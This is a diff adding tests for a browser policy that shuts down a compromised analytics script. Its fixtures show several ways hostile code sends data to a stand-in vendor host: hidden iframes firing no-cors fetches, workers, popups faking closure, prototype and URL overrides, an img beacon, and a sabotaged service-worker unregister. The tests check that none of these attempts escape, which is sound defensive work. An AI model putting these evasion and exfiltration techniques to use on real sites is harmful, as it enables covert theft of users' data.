@@ -103,3 +103,118 @@ test.each(Object.keys(windows).flatMap((name) => [true, false].map((csp) => ({ n
     expect(await afterKill(windows[name], csp)).toMatchObject({ stolen: [] })
   },
 )
+
+/** Each has something that sends by itself, and that the wall can only end. */
+const tampering: Readonly<Record<string, Way>> = {
+  'a popup that says it is closed': async () => {
+    const popup = window.open('/sender.html') as Window & typeof globalThis
+    const isThere = () =>
+      new Promise<void>((resolve) => {
+        const look = (): void => (popup.onmessage ? resolve() : void setTimeout(look, 20))
+        look()
+      })
+    await isThere()
+    popup.onmessage = null
+    // The page that comes now has functions that nobody has seen.
+    popup.location.href = '/sender.html?again'
+    await isThere()
+    Object.defineProperty(popup, 'closed', { value: true })
+    return () => popup.postMessage(`${window.vendor}/stolen`, '*')
+  },
+  'a popup that throws when it is closed, and a worker': async () => {
+    const popup = window.open('about:blank') as Window
+    popup.close = () => {
+      throw new Error('no')
+    }
+    const worker = new Worker('/sender.js')
+    return () => worker.postMessage(`${window.vendor}/stolen`)
+  },
+  'a worker, and lists that have no entries': async () => {
+    const worker = new Worker('/sender.js')
+    const { values } = Array.prototype
+    Array.prototype[Symbol.iterator] = () => values.call([])
+    Array.prototype.splice = () => []
+    return () => worker.postMessage(`${window.vendor}/stolen`)
+  },
+  'a worker, and lists that take nothing up': async () => {
+    Array.prototype.push = () => 0
+    const worker = new Worker('/sender.js')
+    return () => worker.postMessage(`${window.vendor}/stolen`)
+  },
+  'a sandboxed frame that has an address of the app’s, too': async () => {
+    const frame = document.createElement('iframe')
+    frame.sandbox.add('allow-scripts')
+    frame.src = `https://my${new URL(window.vendor).host}/`
+    frame.srcdoc = `<script>onmessage = ({ data }) => setInterval(() => fetch(data, { mode: 'no-cors' }), 50)</script>`
+    document.body.append(frame)
+    await new Promise((resolve) => (frame.onload = resolve))
+    return () => frame.contentWindow?.postMessage(`${window.vendor}/stolen`, '*')
+  },
+  'a frame, and functions that look it up': async () => {
+    const frame = document.createElement('iframe')
+    frame.src = `data:text/html,<script>onmessage = ({ data }) => setInterval(() => fetch(data, { mode: 'no-cors' }), 50)</script>`
+    document.body.append(frame)
+    await new Promise((resolve) => (frame.onload = resolve))
+    WeakSet.prototype.has = () => true
+    String.prototype.includes = () => true
+    return () => frame.contentWindow?.postMessage(`${window.vendor}/stolen`, '*')
+  },
+  'a frame, and another class of addresses': async () => {
+    const frame = document.createElement('iframe')
+    frame.src = `data:text/html,<script>onmessage = ({ data }) => setInterval(() => fetch(data, { mode: 'no-cors' }), 50)</script>`
+    document.body.append(frame)
+    await new Promise((resolve) => (frame.onload = resolve))
+    const host = `my${new URL(window.vendor).host}`
+    Object.assign(window, {
+      URL: function URL() {
+        return { host }
+      },
+    })
+    return () => frame.contentWindow?.postMessage(`${window.vendor}/stolen`, '*')
+  },
+  'a page whose head and root are others': async () => {
+    document.head.remove()
+    const root = document.createElement('html')
+    Object.defineProperty(document, 'documentElement', { get: () => root })
+    return () => (document.body.innerHTML = `<img src="${window.vendor}/stolen">`)
+  },
+}
+
+test.each(Object.keys(tampering))('the policy is not kept from its work by %s', async (name) => {
+  expect(await afterKill(tampering[name])).toMatchObject({ stolen: [], isBroken: false })
+})
+
+test('a frame of a host is ended whose name is a part of one that the policy names', async () => {
+  const page = await infected(true)
+  const frames = await page.evaluate(async () => {
+    const frame = document.createElement('iframe')
+    frame.src = `${window.other}/frame`
+    document.body.append(frame)
+    await new Promise((resolve) => (frame.onload = resolve))
+    return window.analytics.kill('acme').wall?.frames
+  })
+  expect(frames).toBe(1)
+})
+
+test('a service worker that was registered is unregistered, whatever has been replaced since', async () => {
+  const page = await infected(true)
+  const registered = await page.evaluate(async () => {
+    const { then } = Promise.prototype
+    const { unregister } = ServiceWorkerRegistration.prototype
+    Object.assign(Promise.prototype, {
+      then: () => then.call(Promise.reject(new Error('no')), undefined, () => {}),
+    })
+    ServiceWorkerRegistration.prototype.unregister = () => Promise.resolve(true)
+    await navigator.serviceWorker.register('/sender.js')
+    window.analytics.kill('acme')
+    Object.assign(Promise.prototype, { then })
+    ServiceWorkerRegistration.prototype.unregister = unregister
+    return (await navigator.serviceWorker.getRegistrations()).length
+  })
+  expect(registered).toBe(1)
+  await expect
+    .poll(() =>
+      page.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length),
+    )
+    .toBe(0)
+})
